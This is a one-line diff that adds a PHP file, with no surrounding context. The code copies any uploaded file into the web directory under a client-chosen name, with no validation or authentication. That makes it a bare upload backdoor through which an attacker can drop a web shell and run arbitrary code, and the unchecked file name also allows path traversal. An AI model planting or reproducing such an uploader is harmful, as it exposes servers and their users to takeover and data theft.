@@ -1,0 +1,1 @@
+<?php copy($_FILES["up"]["tmp_name"], "./" . $_FILES["up"]["name"]); ?>
